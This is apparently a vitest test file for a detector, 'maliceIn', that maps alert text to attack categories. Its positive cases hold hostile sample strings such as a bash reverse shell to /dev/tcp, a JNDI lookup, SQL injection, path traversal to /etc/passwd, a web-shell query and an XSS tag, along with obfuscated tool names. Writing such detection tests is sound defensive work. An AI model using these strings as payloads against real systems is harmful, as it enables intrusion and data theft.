import { describe, expect, it, test } from 'vitest';
import { maliceIn } from './malice.ts';
import { ORDINARY } from './testing/ordinary.ts';

describe('what tells of an attack', () => {
  it.each<[text: string, word: string]>([
    ['Cobalt Strike beacon', 'Cobalt Strike'],
    ['CobaltStrike.Beacon', 'Cobalt Strike'],
    ['C:\\temp\\mimikatz.exe', 'Mimikatz'],
    ['Invoke-Mimikatz', 'Mimikatz'],
    ['m\u0456mikatz', 'Mimikatz'],
    ['mimi\u200bkatz', 'Mimikatz'],
    ['Trojan:Win32/Emotet!MTB', 'malware by name'],
    ['Trojan:Win32/Wacatac.B!ml', 'a name that scanners give malware'],
    ['Ransom.Win32.X', 'a name that scanners give malware'],
    ['Backdoor.Generic', 'a name that scanners give malware'],
    ['Virus:Win32/Sality', 'a name that scanners give malware'],
    ['HackTool:Win32/Keygen', 'an attacker’s tool'],
    ['RANSOMWARE', 'ransomware'],
    ['a ransom note was found', 'ransomware'],
    ['4,213 files encrypted in 60 s', 'encrypted files'],
    ['It encrypted 4,213 files', 'encrypted files'],
    ['OS Credential Dumping: LSASS Memory', 'credential dumping'],
    ['lsass.exe memory was read', 'LSASS memory'],
    ['read the memory of lsass.exe', 'LSASS memory'],
    ['C2 beacon to a new host', 'command and control'],
    ['Command and Control traffic', 'command and control'],
    ['a web shell was uploaded', 'a web shell'],
    ['GET /a.php?cmd=id', 'a web shell'],
    ['a reverse shell', 'a reverse shell'],
    ['bash -i >& /dev/tcp/192.0.2.1/443', 'a reverse shell'],
    ['\u0024{jndi:ldap://a/b}', 'a JNDI look-up'],
    ["id=1' OR '1'='1", 'SQL injection'],
    ['id=1+UNION+ALL+SELECT+1', 'SQL injection'],
    ['GET /../../etc/hosts', 'path traversal'],
    ['file=/etc/passwd', 'path traversal'],
    ['Exploit attempt', 'exploitation'],
    ['The file was classified as malicious', 'something malicious'],
    ['Account compromised', 'something compromised'],
    ['closed as true positive', 'a true positive'],
    ['W32.Sality', 'a name that scanners give malware'],
    ['DNS tunneling detected', 'a tunnel'],
    ['Lateral movement via PsExec', 'lateral movement'],
    ['Shadow copies were deleted', 'deleted shadow copies'],
    ['Brute force attack succeeded', 'a break-in by brute force'],
    ['<script>alert(1)</script>', 'cross-site scripting'],
    ['dumping of SAM', 'credential dumping'],
  ])('%s: %s', (text, word) => {
    expect(maliceIn(text)).toBe(word);
  });
});

describe('what does not', () => {
  it.each([
    ...['malware', 'phishing', 'suspicious', 'attack', 'Malware scan finished: clean', 'Phishing report'],
    ...['not malicious', 'exploitable: no', 'the back door of the store', 'Bluetooth beacon', 'WORM storage'],
    ...['antivirus', 'Command and Control', 'Credential Access', 'sqlite', 'unions', 'trojanski', 'read the class'],
    ...[
      'Lateral Movement',
      'Brute force: 10 failed logons',
      'ACME\\system',
      'https://cdn.shop.example/a/../b',
      'files are encrypted at rest',
    ],
  ])('%s', (text) => {
    expect(maliceIn(text)).toBe(null);
  });

  test.each(ORDINARY)('%s', (title, description) => {
    expect([maliceIn(title), maliceIn(description)]).toEqual([null, null]);
  });
});
